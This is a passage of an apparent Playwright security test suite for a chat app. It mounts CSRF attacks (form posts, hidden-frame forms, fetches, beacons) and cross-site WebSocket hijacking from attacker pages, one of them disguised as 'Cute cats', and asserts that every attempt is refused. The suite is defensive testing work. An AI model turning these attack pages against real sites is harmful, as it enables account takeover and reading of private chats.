            {"current_password": PASSWORD, "new_password": "the attacker chose this"},
        ),
        ("sign in as the attacker", "/login", {"username": mallory, "password": PASSWORD}),
        ("register", "/register", {"username": unique("sock"), "password": PASSWORD}),
        ("leave the chat", f"/chats/{chat_id}/leave", {}),
        ("delete the chat", f"/chats/{chat_id}/delete", {}),
        ("log out", "/logout", {}),
    ]


@dataclass
class Victims:
    alice: Page
    bob: Page
    alice_name: str
    bob_name: str
    mallory_name: str
    chat_id: int
    first_seq: int
    second_seq: int
    token: str


def victims(new_context, server, watch: Watch) -> Victims:
    """Alice (owner) and bob in a group chat with two messages of alice's; mallory (the
    attacker) has an account of her own."""
    alice = open_page(new_context, watch, server.url, "alice")
    bob = open_page(new_context, watch, server.url, "bob")
    mallory = open_page(new_context, watch, server.url, "mallory", java_script_enabled=False)
    alice_name, bob_name, mallory_name = unique("alice"), unique("bob"), unique("mallory")
    register(alice, alice_name, "Alice Liddell")
    register(bob, bob_name, "Bob Dylan")
    register(mallory, mallory_name, "Mallory")
    mallory.context.close()
    chat_id = create_group_chat(alice, unique("Private"), bob_name)
    expect_live(alice)
    bob.goto(f"/chats/{chat_id}")
    expect_live(bob)
    say(alice, "first: only for bob")
    say(alice, "second: only for bob")
    expect(messages_with(bob, "second: only for bob")).to_have_count(1)
    # Both pages mark the chat read (half a second later): wait for that, so that the
    # database holds still from here on.
    deadline = time.monotonic() + TIMEOUT / 1000
    while read_marks(server.instance, chat_id) != [2, 2] and time.monotonic() < deadline:
        alice.wait_for_timeout(50)
    assert read_marks(server.instance, chat_id) == [2, 2]
    return Victims(
        alice,
        bob,
        alice_name,
        bob_name,
        mallory_name,
        chat_id,
        seq_of(alice, "first: only for bob"),
        seq_of(alice, "second: only for bob"),
        csrf_token_of(alice),
    )


def test_attacker_pages_cannot_post_as_alice(new_context, server, attacker):
    watch = Watch()
    v = victims(new_context, server, watch)
    real, forged = v.token, hashlib.sha256(b"looks like a token").hexdigest()
    assert forged != real
    attacker.write("fetch.html", FETCH_PAGE)
    targets = csrf_targets(v.chat_id, v.first_seq, v.second_seq, v.bob_name, v.mallory_name)
    alice_session = session_token_of(v.alice.context)
    before = database_state(server.instance)

    # The attacker's tab, in alice's browser, next to her open chat.
    page = v.alice.context.new_page()
    answered: dict[int, list[Response]] = {}

    def on_response(response: Response) -> None:
        match = ATTACK_NUMBER.search(response.url)
        if match and response.request.method == "POST":
            answered.setdefault(int(match.group(1)), []).append(response)

    page.on("response", on_response)
    # More tabs of the attacker's, so that top-level attacks run a few at a time.
    tabs = [page] + [v.alice.context.new_page() for _ in range(TABS - 1)]
    for tab in tabs[1:]:
        tab.on("response", on_response)
    nets = [NetLog(tab) for tab in tabs]
    attacks: list[Attack] = []

    def new_attack(kind, how, origin_kind, target, path, fields, token) -> tuple[Attack, dict]:
        attack = Attack(len(attacks) + 1, kind, how, origin_kind, target, token)
        attacks.append(attack)
        sent = dict(fields)
        if path.endswith("/messages"):
            sent["client_token"] = f"attack-{attack.number}"
        if token != "none":
            sent["csrf_token"] = real if token == "real" else forged
        spec = {"action": f"{server.url}{path}?attack={attack.number}", "fields": sent}
        return attack, {**spec, "how": how, "token": real}

    def wait_for_answers(numbers) -> None:
        deadline = time.monotonic() + 2 * TIMEOUT / 1000
        while not all(n in answered for n in numbers) and time.monotonic() < deadline:
            page.wait_for_timeout(25)

    origins = {
        "same-site": (attacker.origin("127.0.0.1"), ""),
        "same-site, Origin: null": (attacker.origin("127.0.0.1"), NO_REFERRER),
        "cross-site": (attacker.origin("localhost"), ""),
    }
    for origin_kind, (_, meta) in origins.items():
        slug = re.sub(r"\W+", "-", origin_kind)
        attacker.write(f"form-{slug}.html", FORM_PAGE.format(meta=meta))

    # (a), (b): a page that submits a form at once: a top-level POST navigation to every
    # state-changing route with alice's real token; without a token, with a forged one
    # and with Origin: null for a few (the frames below try every combination).
    top_level = []
    for origin_kind, (origin, _) in origins.items():
        slug = re.sub(r"\W+", "-", origin_kind)
        for target, path, fields in targets:
            if target not in TOKENLESS_TOO:
                tokens = () if origin_kind == "same-site, Origin: null" else ("real",)
            elif origin_kind == "same-site, Origin: null":
                tokens = ("real",)
            else:
                tokens = ("none", "forged", "real")
            for token in tokens:
                attack, spec = new_attack(
                    "form", "top-level form post", origin_kind, target, path, fields, token
                )
                top_level.append(
                    (attack, f"{origin}/form-{slug}.html?spec={quote(json.dumps(spec))}")
                )
    for first in range(0, len(top_level), TABS):
        round_ = list(zip(tabs, top_level[first : first + TABS], strict=False))
        for tab, (_, url) in round_:
            tab.goto(url, wait_until="commit")
        wait_for_answers([attack.number for _, (attack, _) in round_])
        for tab, _ in round_:
            # The answer (or wherever it leads) is on screen before the tab's next attack.
            tab.wait_for_url(lambda url: url.startswith(server.url), wait_until="commit")

    # The whole matrix at once: every route x no token / forged / real, each form posting
    # into a hidden frame of its own.
    for origin_kind, (origin, meta) in origins.items():
        slug = re.sub(r"\W+", "-", origin_kind)
        batch = []
        for target, path, fields in targets:
            for token in ("none", "forged", "real"):
                batch.append(
                    new_attack(
                        "form", "form into a frame", origin_kind, target, path, fields, token
                    )
                )
        name = attacker.write(
            f"frames-{slug}.html",
            FRAMES_PAGE.format(meta=meta, spec=json.dumps([spec for _, spec in batch])),
        )
        page.goto(f"{origin}/{name}")
        wait_for_answers([attack.number for attack, _ in batch])

    # (c): script requests with credentials: no-cors form and multipart posts, a
    # text/plain "simple" cors post, beacons, and a preflighted post with alice's token
    # in the header (the preflight fails: that one must never be sent at all).
    by_target = {target: (target, path, fields) for target, path, fields in targets}
    for origin_kind in ("same-site", "cross-site"):
        origin = origins[origin_kind][0]
        batch = []
        for how, target in (
            ("no-cors form", "post a message"),
            ("no-cors multipart", "create a chat"),
            ("cors form", "delete the chat"),
            ("cors text/plain", "leave the chat"),
            ("cors with token header", "post a message"),
            ("beacon", "log out"),
            ("beacon", "rename the chat"),
        ):
            kind = "beacon" if how == "beacon" else "fetch"
            _, path, fields = by_target[target]
            batch.append(new_attack(kind, how, origin_kind, target, path, fields, "real")[1])
        page.goto(f"{origin}/fetch.html?spec={quote(json.dumps({'attacks': batch}))}")
        page.wait_for_function(f"() => window.results.length === {len(batch)}")
        results = page.evaluate("window.results")
        # The page may read none of the answers: opaque, blocked (CORP) or refused (CORS).
        assert all(r[1] in {"failed", "queued"} or r[2] == "opaque" for r in results), results

    # Every request that went out, as Chromium saw it.
    forms = [attack for attack in attacks if attack.kind == "form"]
    wait_for_answers([attack.number for attack in forms])
    for attack in forms:
        responses = answered.get(attack.number, [])
        assert len(responses) == 1, (attack, responses)
        attack.status = responses[0].status
    through = [f"{attack}: answered {attack.status}" for attack in forms if attack.status != 403]
    assert not through, "attacks that were not refused:\n" + "\n".join(through)

    # What each request really carried, from Chromium's network stack (CDP): Origin, the
    # cookies sent and withheld, the status. A frame of another site runs in a process
    # of its own, out of sight of the tabs' CDP sessions: for those, what Playwright saw.
    def reported(attack: Attack) -> list[Sent]:
        return [sent for net in nets for sent in net.for_attack(attack.number)]

    deadline = time.monotonic() + 2 * TIMEOUT / 1000
    for attack in attacks:
        if attack.how == "form into a frame" and attack.origin_kind == "cross-site":
            request = answered[attack.number][0].request
            attack.sent = Sent(
                request.method,
                request.url,
                request.headers.get("origin"),
                statuses=[attack.status],
                raw=False,
            )
            continue
        while True:
            found = reported(attack)
            done = found and ((found[0].statuses and found[0].origin) or found[0].failure)
            if done or time.monotonic() > deadline:
                break
            page.wait_for_timeout(25)
        assert len(found) == 1, (attack, found)
        attack.sent = found[0]
        if attack.kind == "form":
            assert attack.sent.statuses == [attack.status], attack

    problems = []
    for attack in attacks:
        sent = attack.sent
        if attack.how == "cors with token header":
            # Preflight refused: the POST itself never left the browser.
            if sent.statuses or "Preflight" not in (sent.failure or ""):
                problems.append(f"{attack}: the preflighted POST was sent")
            continue
        status = sent.statuses[0] if sent.statuses else None
        if status != 403:
            problems.append(f"{attack}: answered {status}, not 403")
        expected_origin = {
            "same-site": attacker.origin("127.0.0.1"),
            "same-site, Origin: null": "null",
            "cross-site": attacker.origin("localhost"),
        }[attack.origin_kind]
        if sent.origin != expected_origin:
            problems.append(f"{attack}: sent Origin {sent.origin}")
        # Same site: the browser DID send alice's session, so only the app said no.
        # Cross site: SameSite=Lax kept it back.
        if not sent.raw:
            continue
        if attack.origin_kind.startswith("same-site"):
            if SESSION_COOKIE not in sent.cookies_sent:
                problems.append(f"{attack}: alice's session cookie was not sent")
        elif SESSION_COOKIE in sent.cookies_sent or SESSION_COOKIE not in sent.cookies_withheld:
            problems.append(f"{attack}: the session cookie was not withheld cross-site")
    assert not problems, "\n".join(problems)

    # Nothing changed: not a row, not a column (but when a session was last seen).
    after = database_state(server.instance)
    for table in before:
        assert after[table] == before[table], f"the attack changed {table}"

    # Alice is still signed in, in the same session, and her chat is intact.
    assert session_token_of(v.alice.context) == alice_session
    v.alice.reload()
    expect(v.alice.locator(".signed-in")).to_have_text("Alice Liddell")
    expect_live(v.alice)
    expect(v.alice.locator("#messages li.message")).to_have_count(2)
    expect(v.alice.get_by_role("heading", level=1)).not_to_contain_text("attacker")

    # Control: the very token the attacker used does work from alice's own page, so the
    # real-token attacks above were stopped by the origin check and nothing else.
    status = v.alice.evaluate(
        """async ({url, token}) => (await fetch(url, {method: 'POST',
             body: new URLSearchParams({body: 'posted by alice herself', csrf_token: token,
                                        client_token: 'control-1'})})).status""",
        {"url": f"/chats/{v.chat_id}/messages", "token": real},
    )
    assert status == 200  # 303 to the message, followed
    expect(messages_with(v.bob, "posted by alice herself")).to_have_count(1)

    counts: dict[str, int] = {}
    for attack in attacks:
        key = f"{attack.kind} ({attack.how}) from {attack.origin_kind}"
        counts[key] = counts.get(key, 0) + 1
    print("\nCSRF attacks, all refused:", json.dumps(counts, indent=1))


# -- 5. cross-site WebSocket hijacking ------------------------------------------------------------

# Opens sockets one after the other (up to `attempts`, or until window.stopSockets) and
# records everything each one sees.
SOCKET_JS = """({url, attempts, witness}) => {
  window.sockets = []
  window.socketsDone = false
  window.stopSockets = false
  const open = (i) => {
    const record = {url, events: [], messages: []}
    window.sockets.push(record)
    const ws = new WebSocket(url)
    ws.onopen = () => record.events.push('open')
    ws.onmessage = (m) => record.messages.push(String(m.data))
    ws.onerror = () => record.events.push('error')
    ws.onclose = (e) => {
      record.events.push('close ' + e.code)
      if (i + 1 < attempts && !window.stopSockets) setTimeout(() => open(i + 1), 100)
      else window.socketsDone = true
    }
  }
  open(0)
  if (witness) {
    const w = new WebSocket(witness)
    w.onerror = () => {}
  }
}"""

ATTACK_SOCKET_PAGE = """<!doctype html>
<meta charset="utf-8">
<link rel="icon" href="data:,">
<title>Cute cats</title>
<script>
  const spec = JSON.parse(new URLSearchParams(location.search).get('spec'));
  ({socket_js})(spec)
</script>
"""


def test_attacker_pages_cannot_open_alices_socket(new_context, server, attacker):
    watch = Watch()
    v = victims(new_context, server, watch)
    attacker.write("socket.html", ATTACK_SOCKET_PAGE.format(socket_js=SOCKET_JS))
    ws_url = f"ws://127.0.0.1:{server.port}/ws"
    session = session_token_of(v.alice.context)

    # The attacker's tabs in alice's browser: one same-site, one cross-site.
    tabs = {}
    consoles: dict[str, list[str]] = {}
    for kind, host in (("same-site", "127.0.0.1"), ("cross-site", "localhost")):
        page = v.alice.context.new_page()
        consoles[kind] = []
        page.on("console", lambda m, k=kind: consoles[k].append(m.text))
        spec = {
            "url": ws_url,
            "attempts": 200,  # until told to stop
            "witness": f"ws://127.0.0.1:{attacker.port}/witness-socket-{kind}",
        }
        page.goto(f"{attacker.origin(host)}/socket.html?spec={quote(json.dumps(spec))}")
        tabs[kind] = page

    # Control: the same code on alice's own page opens a socket of its own.
    v.alice.evaluate(SOCKET_JS, {"url": ws_url, "attempts": 1, "witness": None})
    v.alice.wait_for_function("() => window.sockets[0].events.includes('open')")

    # Alice posts while the attackers are trying; bob gets it live, and so does the
    # control socket.
    secret = f"the secret plan {uuid.uuid4().hex[:6]}"
    say(v.alice, secret)
    expect(messages_with(v.bob, secret)).to_have_count(1)
    v.alice.wait_for_function(
        "(text) => window.sockets[0].messages.some((m) => m.includes(text))", arg=secret
    )
    say(v.alice, "and one more")
    expect(messages_with(v.bob, "and one more")).to_have_count(1)
    for page in tabs.values():
        page.evaluate("() => { window.stopSockets = true }")
        # (An open socket never closes by itself: the assertions below show it.)
        page.wait_for_function(
            "() => window.socketsDone || window.sockets.some((s) => s.events.includes('open'))"
        )

    attempts = {}
    for kind, page in tabs.items():
        sockets = page.evaluate("window.sockets")
        attempts[kind] = len(sockets)
        for record in sockets:
            assert "open" not in record["events"], f"{kind}: a socket opened: {record}"
            assert record["messages"] == [], f"{kind}: frames reached the attacker: {record}"
            assert record["events"] == ["error", "close 1006"], (kind, record)
        assert len(sockets) >= 3, f"{kind}: only {len(sockets)} attempts while alice posted"
        # Refused by the server (403 on the handshake), not lost on the way.
        refused = [
            line
            for line in consoles[kind]
            if f"'{ws_url}' failed" in line and "Unexpected response code: 403" in line
        ]
        assert len(refused) == len(sockets), consoles[kind]

    # What the browser sends with such a handshake (seen by the attacker's own server):
    # same-site, alice's session cookie goes along: only the app's Origin check refused.
    by_kind = {
        kind: next(w for w in attacker.witnessed if w["path"] == f"/witness-socket-{kind}")
        for kind in tabs
    }
    assert by_kind["same-site"]["upgrade"] == "websocket"
    assert by_kind["same-site"]["origin"] == attacker.origin("127.0.0.1")
    assert f"{SESSION_COOKIE}={session}" in (by_kind["same-site"]["cookie"] or "")
    assert by_kind["cross-site"]["origin"] == attacker.origin("localhost")
    assert SESSION_COOKIE not in (by_kind["cross-site"]["cookie"] or "")

    # Alice's own live page was never disturbed, and she is still signed in.
    expect_live(v.alice)
    expect(v.alice.locator(".signed-in")).to_have_text("Alice Liddell")
    print(
        f"\nWebSocket hijack attempts refused: {attempts['same-site']} same-site (with"
        f" alice's cookie), {attempts['cross-site']} cross-site"
    )
